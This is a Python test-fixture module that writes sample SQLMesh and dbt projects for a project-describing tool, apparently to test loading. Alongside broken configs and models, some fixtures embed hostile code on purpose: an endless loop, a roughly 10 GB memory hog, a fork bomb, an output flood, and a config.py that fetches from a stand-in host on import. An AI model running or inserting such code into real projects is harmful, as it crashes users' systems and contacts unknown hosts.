"""Small projects, true to what public ones do, for `meshrun describe`: name -> path -> text. Written out by `write`."""

from __future__ import annotations

from pathlib import Path

DUCKDB = "gateways:\n  local:\n    connection:\n      type: duckdb\nmodel_defaults:\n  dialect: duckdb\n"


def model(name: str, query: str = "SELECT 1 AS id", **properties: str) -> str:
    """Write a model; `kind="VIEW"` and so on are its properties."""
    given = ",\n  ".join(f"{key} {value}" for key, value in {"name": name, **properties}.items())
    return f"MODEL (\n  {given}\n);\n\n{query}\n"


PLAIN = {
    "config.yaml": DUCKDB,
    "external_models.yaml": "- name: raw.customers\n  columns:\n    id: int\n",
    "seeds/countries.csv": "id,name\n1,Norway\n",
    "models/seeds/countries.sql": model("shop.countries", "", kind="SEED (path '../../seeds/countries.csv')"),
    "models/deep/er/orders.sql": "-- money\n"  # noqa: S608 - a file is written, nothing is asked
    + model(
        "shop.orders",
        "SELECT o.id FROM raw.orders AS o JOIN raw.customers AS c ON o.id = c.id JOIN shop.fees AS f ON TRUE;\n"
        "GRANT SELECT ON @this_model TO nobody;\n"
        "ON_VIRTUAL_UPDATE_BEGIN;\nINSERT INTO log.updates SELECT * FROM log.template;\nON_VIRTUAL_UPDATE_END;",
        kind="FULL",
        cron="'@hourly'",
        owner="anna",
        tags="(money, eu)",
        audits="(all_known)",
        dialect="duckdb",
    ),
    "models/fees.sql": model("shop.fees", "SELECT 1 AS id", kind="EMBEDDED"),
    "models/report.sql": model(
        "shop.report",
        "WITH one AS (SELECT * FROM shop.orders) SELECT * FROM one JOIN shop.countries USING (id)",
        kind="VIEW",
        cron="'30 6 * * *'",
        cron_tz="'Europe/Berlin'",
    ),
    "models/scored.py": "import typing as t\n\nimport pandas as pd\nfrom sqlmesh import ExecutionContext, model\n\n\n"
    '@model("shop.scored", kind="FULL", columns={"id": "int"}, depends_on={"shop.report"})\n'
    "def execute(context: ExecutionContext, **kwargs: t.Any) -> pd.DataFrame:\n"
    '    return pd.DataFrame({"id": [1]})\n',
    "audits/all_known.sql": "AUDIT (name all_known);\n\nWITH them AS (SELECT id FROM crm.people)\n"
    "SELECT * FROM @this_model WHERE NOT id IN (SELECT id FROM them)\n",
    "audits/no_holes.sql": "AUDIT (name no_holes, standalone TRUE, cron '@weekly');\n\n"
    "SELECT * FROM shop.report WHERE id IS NULL\n",
    "macros/__init__.py": "",
    "macros/say.py": 'print("a macro prints")\n',
}
"""What SQLMesh itself loads as it is: every kind of thing that a graph has."""

WAREHOUSE = {
    "config.yaml": """\
project: finance
default_gateway: snow
gateways:
  snow:
    connection:
      type: snowflake
      account: "{{ env_var('SNOW_ACCOUNT') }}"
      user: "{{ env_var('SNOW_USER', 'robot') }}"
      password: "{{ env_var('SNOW_PASSWORD') }}"
      database: ANALYTICS
      concurrent_tasks: {{ env_var('SNOW_TASKS') }}
    state_connection:
      type: postgres
      host: db.internal
      port: {{ env_var('PG_PORT') }}
      user: state
      password: state
      database: state
    scheduler:
      type: tobiko_cloud
      url: https://cloud.example.com
  big:
    connection:
      type: bigquery
      project: big-project
  own:
    connection:
      type: somebodys_plugin
      database: own
model_defaults:
  dialect: snowflake
a_key_of_tomorrow:
  enabled: true
notification_targets:
  - type: slack_webhook
    url: "{{ env_var('SLACK_URL') }}"
""",
    "models/a.sql": model("finance.a", "SELECT $1 AS id FROM raw.events", kind="FULL"),
    "models/b.sql": model("analytics.finance.b", "SELECT id FROM finance.a", kind="VIEW"),
    "models/c.sql": model("finance.c", "SELECT id FROM ANALYTICS.FINANCE.B", kind="FULL"),
    "models/d.sql": model("big.d", "SELECT 1 AS id FROM `other-project.raw.t`", gateway="big", dialect="bigquery"),
}
"""Snowflake, BigQuery and a plugin's engine, with neither drivers nor variables; a scheduler that is not known here."""

PYTHON_CONFIG = {
    "config.py": """\
import json
import os

import boto3
from airflow.models import Variable
from sqlmesh.core.config import Config, GatewayConfig, ModelDefaultsConfig, SnowflakeConnectionConfig

PORT = int(os.environ["THE_PORT"])
secret = json.loads(boto3.client("secretsmanager").get_secret_value(SecretId="x")["SecretString"])
HOST = os.getenv("THE_HOST").lower()
config = Config(
    project="python",
    gateways={
        "main": GatewayConfig(
            connection=SnowflakeConnectionConfig(
                account=HOST, user=secret["user"], password=secret["password"], database="PROD"
            )
        )
    },
    default_gateway="main",
    model_defaults=ModelDefaultsConfig(dialect="snowflake", cron="@hourly"),
    default_test_connection=None,
)
""",
    "models/a.sql": model("x.a", "SELECT 1 AS id FROM prod.raw.t"),
    "models/b.sql": model("x.b", "SELECT id FROM PROD.X.A"),
}
"""A config.py that asks AWS for its secrets when it is imported."""

CLOUD = {
    "config.py": """\
import getpass
import subprocess

from tobikodata.sqlmesh_enterprise.config.scheduler import CloudSchedulerConfig
from sqlmesh.core.config import Config, GatewayConfig, ModelDefaultsConfig, PlanConfig
from sqlmesh.core.user import User

branch = subprocess.check_output(["git", "rev-parse", "--abbrev-ref", "HEAD"]).decode().strip()
config = Config(
    project="cloudy",
    default_target_environment=f"{getpass.getuser()}__{branch}",
    model_defaults=ModelDefaultsConfig(dialect="bigquery"),
    default_gateway="cloud",
    gateways={"cloud": GatewayConfig(scheduler=CloudSchedulerConfig())},
    plan=PlanConfig(no_such_setting=True),
    users=[User(username="anna")],
)
""",
    ".env": "SQLMESH__GATEWAYS__CLOUD__CONNECTION__TYPE=bigquery\nSQLMESH__VARIABLES__SCHEMA=made\n",
    "models/a.sql": model("cloudy.a", "SELECT id FROM `a-project.raw.t`"),
}
"""A scheduler of another product, git asked for its branch, and settings in an .env file."""

BROKEN = {
    "config.yaml": DUCKDB,
    "audits/bad.sql": "AUDIT (name bad;\nSELECT\n",
    "macros/__init__.py": "",
    "macros/broken.py": "import nowhere_to_be_found\n\nraise RuntimeError('no world')\n",
    "models/good.sql": model("ok.good", "SELECT id FROM ok.syntax JOIN ok.learned USING (id)"),
    "models/syntax.sql": "MODEL (\n  name ok.syntax,\n  kind FULL,\n  cron '@hourly'\n);\n\n"
    "SELECT ((id FROM ok.seeded\nJOIN raw.elsewhere\n",
    "models/seeded.sql": model("ok.seeded", "", kind="SEED (path '../seeds/gone.csv')"),
    "models/unknown_macro.sql": model(
        "ok.with_macro", "SELECT @no_such_macro(id) AS id FROM ok.good", cron="'@weekly'"
    ),
    "models/twice.sql": model("ok.twice", "SELECT 1 AS id"),
    "models/twice_again.sql": model("ok.twice", "SELECT 2 AS id"),
    "models/learned.py": "from sklearn.linear_model import LinearRegression\nfrom sqlmesh import model\n\n\n"
    '@model("ok.learned", kind="FULL", columns={"id": "int"}, depends_on=["ok.seeded"])\n'
    "def execute(context, **kwargs):\n    return LinearRegression().fit()\n",
    "models/invalid.py": "from sqlmesh import model\n\n\n"
    '@model("ok.invalid", kind="FULL", cron="@hourly", columns={"id": "int"}, depends_on=["ok.good"])\n'
    "def execute(context, **kwargs):\n    return 1\n\n\nraise ValueError('this file is broken')\n",
    "models/unparsable.py": "def execute(:\n",
}
"""Files that do not load, each in its own way, beside one that does."""

BLUEPRINTS = {
    "config.yaml": DUCKDB + "variables:\n  regions: 2\n",
    "models/by_region.sql": "MODEL (\n  name @{region}.sales,\n  kind FULL,\n"
    "  blueprints ((region := north, src := n), (region := south, src := s))\n);\n\nSELECT * FROM raw.@{src}_sales\n",
    "models/jinja.sql": "MODEL (name all_of.it, kind VIEW);\n\nJINJA_QUERY_BEGIN;\n"
    "{% for region in ['north', 'south'] %}SELECT * FROM {{ region }}.sales\n"
    "{% if not loop.last %}UNION ALL{% endif %} {% endfor %}\nJINJA_END;\n",
    "models/generated.py": "from sqlmesh import model\n\n\n"
    '@model("@{name}.made", kind="FULL", is_sql=True, blueprints=[{"name": "one"}, {"name": "two"}])\n'
    "def entry(evaluator):\n    return f\"SELECT id FROM {evaluator.blueprint_var('name')}.source\"\n",
}
"""Models that are made from one file, and a query in Jinja."""

BESIDE = {
    ".git/HEAD": "ref: refs/heads/main\n",
    "shared/__init__.py": "",
    "shared/names.py": 'SCHEMA = "shared_schema"\n',
    "warehouse/config.yaml": DUCKDB,
    "warehouse/macros/__init__.py": "",
    "warehouse/macros/schema.py": "from shared.names import SCHEMA\nfrom sqlmesh import macro\n\n\n"
    "@macro()\ndef source(evaluator):\n    return SCHEMA + '.events'\n",
    "warehouse/models/a.sql": model("w.a", "SELECT id FROM @source()"),
}
"""A project in a folder of a repository, with a package beside it."""

MACRO = "from sqlmesh import macro\n\n\n@macro()\ndef source(evaluator):\n    return '{}'\n"
MULTI = {
    "one/config.yaml": "project: one\n" + DUCKDB,
    "one/models/a.sql": model("one.a"),
    "two/config.yaml": "project: two\n" + DUCKDB,
    "one/macros/__init__.py": MACRO.format("raw.ones"),
    "one/models/c.sql": model("one.c", "SELECT id FROM @source()"),
    "two/macros/__init__.py": MACRO.format("one.a"),
    "two/models/b.sql": model("two.b", "SELECT id FROM @source()"),
}
"""Two projects, of which one reads from the other; both have a macro of one name."""

DBT = {
    "dbt_project.yml": "name: shop\nversion: '1.0'\nprofile: shop\nmodels:\n  +start: Jan 1 2024\n",
    "models/stage.sql": "{{ config(materialized='view') }}\nselect * from {{ source('raw', 'orders') }}\n",
    "models/final.sql": "{{ config(materialized='table', tags=['gold'], cron='@hourly') }}\n"
    "select * from {{ ref('stage') }} join {{ ref('countries') }} using (id)\n",
    "models/sources.yml": "sources:\n  - name: raw\n    tables:\n      - name: orders\n",
    "seeds/countries.csv": "id,name\n1,Norway\n",
}
"""A dbt project as it is cloned: its profile is in somebody's home."""

DBT_WITH_PROFILE = {
    **DBT,
    "sqlmesh.yaml": "model_defaults:\n  start: 2024-01-01\n",
    "profiles.yml": "shop:\n  target: prod\n  outputs:\n    prod:\n      type: duckdb\n      path: ':memory:'\n"
    "      schema: \"{{ env_var('SCHEMA', 'gold') }}\"\n",
    "models/marts/schema.yml": "models:\n  - name: daily\n    config:\n      alias: per_day\n      schema: marts\n",
    "models/marts/daily.sql": "{{ config(materialized='incremental', unique_key='id', cron='@daily') }}\n"
    "{# {{ ref('nothing') }} #}\nselect * from {{ ref('final') }}\n",
}
"""The same with a profile of its own, settings in YAML, and an incremental model."""

LOOP = {"config.yaml": DUCKDB, "models/a.sql": model("x.a"), "macros/__init__.py": "while True:\n    pass\n"}
MEMORY = {
    "config.yaml": DUCKDB,
    "models/a.sql": model("x.a"),
    "macros/__init__.py": "hoard = [bytearray(64 * 1024 * 1024) for _ in range(160)]\n",
}
FORKS = {
    "config.yaml": DUCKDB,
    "models/a.sql": model("x.a"),
    "macros/__init__.py": "import os\n\nwhile True:\n    if os.fork() == 0:\n        os.setsid()\n",
}
FLOOD = {
    "config.yaml": DUCKDB,
    "models/a.sql": model("x.a"),
    "macros/__init__.py": "while True:\n    print('x' * 100_000)\n",
}
CALLS_HOME = {
    "config.py": "import urllib.request\n\nfrom sqlmesh.core.config import Config, DuckDBConnectionConfig, "
    "GatewayConfig, ModelDefaultsConfig\n\n"
    "word = urllib.request.urlopen('http://192.0.2.1/secret', timeout=30).read()\n"
    "config = Config(gateways={'a': GatewayConfig(connection=DuckDBConnectionConfig())}, "
    "model_defaults=ModelDefaultsConfig(dialect='duckdb'))\n",
    "models/a.sql": model("x.a"),
}


def write(folder: Path, project: dict[str, str]) -> Path:
    """Write a project out and return its folder."""
    for name, text in project.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return folder
